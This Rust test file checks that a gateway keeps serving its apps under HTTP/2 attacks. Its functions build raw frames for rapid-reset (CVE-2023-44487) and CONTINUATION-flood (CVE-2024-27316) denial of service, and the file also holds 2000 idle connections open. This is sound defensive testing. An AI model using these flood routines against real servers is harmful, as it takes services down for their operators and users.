//! Attacks from raw sockets that must end with the app still serving, while a second
//! client of the same app (a PHP script and a static file) and a client of another app are
//! measured: none of their requests may fail (their p99 is printed, not asserted).
//! - Rapid reset (CVE-2023-44487): h2c connections that send HEADERS and RST_STREAM pairs
//!   as fast as they can.
//! - CONTINUATION flood (CVE-2024-27316): a HEADERS frame without END_HEADERS followed by
//!   CONTINUATION frames without end, on several connections.
//! - 2000 idle connections, held open while the probes run.
//!
//! Each attack prints how much the gateway took before it closed the attacker.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use bulkhead_tests::probe::{VICTIM, h2_frame, h2_get_block, h2_preface, survives};

/// How long each attack goes on, one attacking connection after the other.
const ATTACK_TIME: Duration = Duration::from_secs(3);
/// Frames written at once.
const BATCH: usize = 500;
/// The most frames one attacking connection writes if the gateway never stops it.
const MOST_FRAMES: usize = 200_000;

/// Opens an h2c connection, drains what the gateway sends in a thread, and writes
/// `opening` then `batch(n)` for n = 0, 1, … until a write fails or [`MOST_FRAMES`];
/// returns how many batches were written.
fn flood(addr: SocketAddr, opening: &[u8], batch: impl Fn(usize) -> Vec<u8>) -> usize {
    let mut conn = TcpStream::connect(addr).expect("connecting to the gateway");
    conn.set_write_timeout(Some(Duration::from_secs(10))).expect("setting a write timeout");
    let mut reader = conn.try_clone().expect("cloning the socket");
    let drain = std::thread::spawn(move || {
        let mut buf = [0; 16 * 1024];
        while matches!(reader.read(&mut buf), Ok(n) if n > 0) {}
    });
    let mut written = 0;
    if conn.write_all(opening).is_ok() {
        while written * BATCH < MOST_FRAMES && conn.write_all(&batch(written)).is_ok() {
            written += 1;
        }
    }
    let _ = conn.shutdown(std::net::Shutdown::Both);
    let _ = drain.join();
    written
}

/// Runs `attack` on one connection after the other for [`ATTACK_TIME`]; the batches written.
fn repeat(name: &str, attack: impl Fn() -> usize) -> usize {
    let started = Instant::now();
    let (mut connections, mut batches) = (0, 0);
    while started.elapsed() < ATTACK_TIME {
        batches += attack();
        connections += 1;
    }
    println!(
        "{name}: {connections} connections, {:.0} batches of {BATCH} frames each before the gateway \
         stopped reading (at most {MOST_FRAMES} frames a connection)",
        batches as f64 / f64::from(connections)
    );
    batches
}

#[test]
fn rapid_reset_leaves_the_app_and_its_neighbour_serving() {
    survives("rapid reset", |stack| {
        let block = h2_get_block(VICTIM, "/echo.php");
        let batches = repeat("rapid reset", || {
            flood(stack.addr(), &h2_preface(), |n| {
                let mut out = Vec::new();
                for i in 0..BATCH / 2 {
                    let id = u32::try_from(2 * (n * BATCH / 2 + i) + 1).expect("a stream id");
                    h2_frame(&mut out, 0x1, 0x5, id, &block);
                    h2_frame(&mut out, 0x3, 0, id, &8u32.to_be_bytes());
                }
                out
            })
        });
        println!("rapid reset: {} HEADERS + RST_STREAM pairs written in all", batches * BATCH / 2);
    });
}

#[test]
fn a_continuation_flood_leaves_the_app_and_its_neighbour_serving() {
    survives("a CONTINUATION flood", |stack| {
        let mut opening = h2_preface();
        h2_frame(&mut opening, 0x1, 0x1, 1, &h2_get_block(VICTIM, "/echo.php"));
        // A literal header without indexing, new name: "x-flood: aaaa…".
        let mut field = vec![0x00, 7];
        field.extend_from_slice(b"x-flood");
        field.push(100);
        field.extend_from_slice(&[b'a'; 100]);
        let batches = repeat("CONTINUATION flood", || {
            flood(stack.addr(), &opening, |_| {
                let mut out = Vec::new();
                for _ in 0..BATCH {
                    h2_frame(&mut out, 0x9, 0, 1, &field);
                }
                out
            })
        });
        println!("CONTINUATION flood: {} frames written in all", batches * BATCH);
    });
}

/// Idle connections held open during the probes.
const IDLE_CONNECTIONS: usize = 2000;

#[test]
fn two_thousand_idle_connections_leave_the_app_and_its_neighbour_serving() {
    let (soft, hard) = nix::sys::resource::getrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE)
        .expect("getrlimit");
    let wanted = (IDLE_CONNECTIONS as u64 + 1024).min(hard).max(soft);
    nix::sys::resource::setrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE, wanted, hard)
        .expect("raising RLIMIT_NOFILE");
    survives("2000 idle connections", |stack| {
        let idle: Vec<TcpStream> =
            (0..IDLE_CONNECTIONS).filter_map(|_| TcpStream::connect(stack.addr()).ok()).collect();
        println!("{} idle connections open", idle.len());
        assert_eq!(idle.len(), IDLE_CONNECTIONS, "connections refused by the kernel");
        std::thread::sleep(Duration::from_secs(3));
        let mut probe = TcpStream::connect(stack.addr()).expect("one more connection");
        let request =
            format!("GET /static.txt HTTP/1.1\r\nHost: {VICTIM}\r\nConnection: close\r\n\r\n");
        probe.write_all(request.as_bytes()).expect("sending");
        let mut answer = String::new();
        let _ = probe.read_to_string(&mut answer);
        assert!(
            answer.ends_with("static-ok"),
            "beside {} idle connections: {answer:?}",
            idle.len()
        );
        drop(idle);
    });
}
